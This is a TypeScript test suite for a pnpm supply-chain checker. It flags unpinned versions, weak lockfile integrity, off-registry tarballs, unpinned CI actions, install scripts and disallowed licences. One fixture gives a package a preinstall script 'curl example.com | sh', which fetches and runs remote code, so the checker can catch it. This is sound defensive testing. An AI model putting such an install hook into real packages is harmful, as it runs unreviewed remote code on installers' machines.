import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { lookAtSupply } from '../../supply/problems.mjs';
import { type Files, installedAt, integrity, smallWorkspace } from './small-workspace.ts';

const own = 'packages/own/package.json';
const settings = 'pnpm-workspace.yaml';
const lock = 'pnpm-lock.yaml';

type Row = readonly [what: string, change: (files: Files) => void, problem: string];

async function problemsOf(change?: (files: Files) => void) {
  return (await lookAtSupply(await smallWorkspace(change))).problems;
}

/** Each breaks one thing, and is told with the place where it stands. */
function eachIsTold(rows: readonly Row[]) {
  it.each(rows)('%s', async (_, change, problem) => {
    expect(await problemsOf(change)).toEqual([problem]);
  });
}

it('this workspace has no problem', async () => {
  const root = fileURLToPath(new URL('../../..', import.meta.url));
  const { locked, published, problems } = await lookAtSupply(root);
  expect(problems).toEqual([]);
  expect(locked).toBeGreaterThan(500);
  expect(published).toBeGreaterThan(40);
});

it('nor has the small one that the others break', async () => {
  expect(await lookAtSupply(await smallWorkspace())).toEqual({
    locked: 4,
    published: 4,
    problems: [],
  });
});

describe('versions that are left open', () => {
  const lockedFrom = (resolution: object) => (files: Files) => {
    files[lock].packages['deep@1.2.3'].resolution = resolution;
  };
  eachIsTold([
    [
      'a range in the catalog',
      (files) => Object.assign(files[settings].catalog, { used: '^1.0.0' }),
      'pnpm-workspace.yaml: catalog: used is ^1.0.0, not exact',
    ],
    [
      'a tag in another catalog',
      (files) => Object.assign(files[settings], { catalogs: { old: { used: 'latest' } } }),
      'pnpm-workspace.yaml: old: used is latest, not exact',
    ],
    [
      'a range in an override',
      (files) => Object.assign(files[settings], { overrides: { deep: '>=1' } }),
      'pnpm-workspace.yaml: overrides: deep is >=1, not exact',
    ],
    [
      'a range in a manifest',
      (files) => Object.assign(files[own].dependencies, { used: '^1.0.0' }),
      `${own}: dependencies: used is ^1.0.0, not catalog: (or workspace:^, of ours)`,
    ],
    [
      'an exact version beside the catalog',
      (files) => Object.assign(files['package.json'].devDependencies, { builder: '3.0.0' }),
      'package.json: devDependencies: builder is 3.0.0, not catalog: (or workspace:^, of ours)',
    ],
    [
      'a repository in a manifest',
      (files) => Object.assign(files[own], { optionalDependencies: { used: 'github:a/used' } }),
      `${own}: optionalDependencies: used is github:a/used, not catalog: (or workspace:^, of ours)`,
    ],
    [
      'a lockfile without integrity',
      lockedFrom({}),
      'pnpm-lock.yaml: deep@1.2.3 has no sha512 integrity',
    ],
    [
      'a lockfile with a weak one',
      lockedFrom({ integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=' }),
      'pnpm-lock.yaml: deep@1.2.3 has no sha512 integrity',
    ],
    [
      'a tarball from another place',
      lockedFrom({ integrity, tarball: 'https://example.com/deep.tgz' }),
      'pnpm-lock.yaml: deep@1.2.3 comes from a tarball, not from the registry',
    ],
    [
      'pnpm without a version',
      (files) => {
        files['package.json'].packageManager = 'pnpm@10';
        files['.ci/run'] = '';
        files['CONTRIBUTING.md'] = '';
      },
      'package.json: packageManager is pnpm@10, not pnpm@1.2.3',
    ],
  ]);

  it('an address in place of a version', async () => {
    const problems = await problemsOf((files) => {
      files[lock].packages['tool@https://example.com/tool.tgz'] = { resolution: { integrity } };
      files[lock].snapshots['tool@https://example.com/tool.tgz'] = { optional: true };
    });
    expect(problems).toEqual([
      'pnpm-lock.yaml: tool@https://example.com/tool.tgz is no exact version',
    ]);
  });

  it('a lockfile that the checks do not understand', async () => {
    const folder = await smallWorkspace((files) => {
      files[lock].lockfileVersion = '10.0';
    });
    await expect(lookAtSupply(folder)).rejects.toThrow('pnpm-lock.yaml is of version 10.0');
  });
});

describe('settings that the rest counts on', () => {
  eachIsTold([
    [
      'one is off',
      (files) => Object.assign(files[settings], { strictDepBuilds: false }),
      'pnpm-workspace.yaml: strictDepBuilds is false, not true',
    ],
    [
      'one is gone',
      (files) => Reflect.deleteProperty(files[settings], 'blockExoticSubdeps'),
      'pnpm-workspace.yaml: blockExoticSubdeps is undefined, not true',
    ],
    [
      'a release may be an hour old',
      (files) => Object.assign(files[settings], { minimumReleaseAge: 60 }),
      'pnpm-workspace.yaml: minimumReleaseAge is 60, not 1440',
    ],
    [
      'settings stand where nobody looks',
      (files) => Object.assign(files['package.json'], { pnpm: { onlyBuiltDependencies: [] } }),
      'package.json: pnpm: settings stand in pnpm-workspace.yaml',
    ],
  ]);
});

describe('tools that can change under their names', () => {
  const uses = (action: string) => (files: Files) => {
    files['.github/workflows/ci.yml'] = `steps:\n  - name: x\n    uses: ${action}\n`;
  };
  const place = '.github/workflows/ci.yml';
  const must = 'is not pinned: owner/name@commit # v1.2.3';
  eachIsTold([
    ['an action by its tag', uses('a/b@v4'), `${place}: a/b@v4 ${must}`],
    ['an action by its branch', uses('a/b@main # v4.0.0'), `${place}: a/b@main ${must}`],
    [
      'a commit that does not say which release it is',
      uses(`a/b@${'0'.repeat(40)}`),
      `${place}: a/b@${'0'.repeat(40)} ${must}`,
    ],
    [
      'another pnpm',
      (files) => Object.assign(files, { '.ci/run': 'npx -y pnpm@10.9.9 check' }),
      '.ci/run: pnpm@10.9.9 is not our pnpm@10.0.1',
    ],
    [
      'any pnpm',
      (files) => Object.assign(files, { 'README.md': 'npx pnpm@latest test' }),
      'README.md: pnpm@latest is not our pnpm@10.0.1',
    ],
    [
      'another pnpm in what a package tells',
      (files) => Object.assign(files, { 'packages/own/README.md': 'npx pnpm@9.0.0 own' }),
      'packages/own/README.md: pnpm@9.0.0 is not our pnpm@10.0.1',
    ],
  ]);

  it('an action of this repository needs no pin', async () => {
    expect(await problemsOf(uses('./.github/actions/own'))).toEqual([]);
  });
});

describe('install scripts', () => {
  const builder = installedAt('builder', '3.0.0');
  const unlisted = (key: string) =>
    `${key} brings an install script: see what it does, then list it or leave it`;
  const needed = (key: string) => `${key} brings an install script, and what is published needs it`;
  eachIsTold([
    [
      'one that is not on the list',
      (files) => Object.assign(files[settings], { ignoredBuiltDependencies: [] }),
      unlisted('builder@3.0.0'),
    ],
    [
      'one of users, though it is on the list',
      (files) => {
        files[settings].ignoredBuiltDependencies.push('deep');
        files[installedAt('deep', '1.2.3')].scripts = { preinstall: 'curl example.com | sh' };
      },
      needed('deep@1.2.3'),
    ],
    [
      'a list that names what brings none',
      (files) => Object.assign(files[builder], { scripts: { test: 'x', prepare: 'y' } }),
      'ignoredBuiltDependencies: builder brings no install script',
    ],
    [
      'a list that names what is not there',
      (files) => files[settings].ignoredBuiltDependencies.push('gone'),
      'ignoredBuiltDependencies: gone brings no install script',
    ],
    [
      'a setting that lets one run',
      (files) => Object.assign(files[settings], { onlyBuiltDependencies: ['builder'] }),
      'pnpm-workspace.yaml: onlyBuiltDependencies lets install scripts run',
    ],
    [
      'a setting that lets all run',
      (files) => Object.assign(files[settings], { dangerouslyAllowAllBuilds: true }),
      'pnpm-workspace.yaml: dangerouslyAllowAllBuilds lets install scripts run',
    ],
  ]);

  it('node-gyp, which runs by the sight of its file', async () => {
    const problems = await problemsOf((files) => {
      files[installedAt('used', '1.0.0', 'binding.gyp')] = '{}';
    });
    expect(problems).toEqual([unlisted('used@1.0.0'), needed('used@1.0.0')]);
  });

  it('what is not installed is told, for nothing is known of it', async () => {
    const problems = await problemsOf((files) => {
      delete files[installedAt('peer', '2.0.0')];
    });
    expect(problems).toEqual([
      "peer@2.0.0 is not installed: its scripts can't be seen",
      'peer@2.0.0, which users get, names no licence',
    ]);
  });

  it('what is for other machines only need not be installed, on the list or not', async () => {
    const problems = await problemsOf((files) => {
      for (const name of ['for-macs', 'for-others']) {
        files[lock].packages[`${name}@1.0.0`] = { resolution: { integrity } };
        files[lock].snapshots[`${name}@1.0.0`] = { optional: true };
      }
      files[settings].ignoredBuiltDependencies.push('for-macs');
    });
    expect(problems).toEqual([]);
  });
});

describe('licences', () => {
  const allowed =
    'allowed are MIT, ISC, Apache-2.0, BSD-2-Clause, BSD-3-Clause, 0BSD, BlueOak-1.0.0';
  const under = (license: unknown) => (files: Files) => {
    files[installedAt('deep', '1.2.3')].license = license;
  };
  const deep = 'deep@1.2.3, which users get,';
  eachIsTold([
    ['the GPL', under('GPL-3.0-only'), `${deep} is under GPL-3.0-only: ${allowed}`],
    ['a weaker copyleft', under('MPL-2.0'), `${deep} is under MPL-2.0: ${allowed}`],
    [
      'the GPL beside another that holds as well',
      under('MIT AND GPL-2.0-or-later'),
      `${deep} is under MIT AND GPL-2.0-or-later: ${allowed}`,
    ],
    [
      'no expression',
      under('SEE LICENSE IN LICENSE.md'),
      `${deep} says of its licence what is no SPDX expression: SEE LICENSE IN LICENSE.md`,
    ],
    [
      'all rights reserved',
      under('UNLICENSED'),
      `${deep} says of its licence what is no SPDX expression: UNLICENSED`,
    ],
    ['no licence', under(undefined), `${deep} names no licence`],
    ['the form of old', under({ type: 'MIT' }), `${deep} names no licence`],
    [
      'a peer',
      (files) => Object.assign(files[installedAt('peer', '2.0.0')], { license: 'AGPL-3.0-only' }),
      `peer@2.0.0, which users get, is under AGPL-3.0-only: ${allowed}`,
    ],
    [
      'our own',
      (files) => Object.assign(files[own], { license: 'LGPL-3.0-only' }),
      `own@0.1.0, which users get, is under LGPL-3.0-only: ${allowed}`,
    ],
  ]);

  it.each(['MIT', '(MIT OR GPL-3.0-only)', '(MIT AND ISC)', 'BSD-3-Clause OR MPL-2.0'])(
    '%s is allowed',
    async (license) => {
      expect(await problemsOf(under(license))).toEqual([]);
    },
  );
});

describe('what users get', () => {
  it('is nothing private', async () => {
    const folder = await smallWorkspace((files) => {
      files['packages/tool/package.json'] = { name: 'tool', version: '0.0.0', private: true };
      files[lock].importers['packages/tool'] = {};
      files[lock].importers['packages/own'].dependencies.tool = { version: 'link:../tool' };
    });
    await expect(lookAtSupply(folder)).rejects.toThrow(
      'packages/tool is private, but something published needs it',
    );
  });

  it('is locked, peers too', async () => {
    const folder = await smallWorkspace((files) => {
      files[own].peerDependencies.other = '*';
    });
    await expect(lookAtSupply(folder)).rejects.toThrow(
      'packages/own: its peer other is not in the lockfile',
    );
  });
});
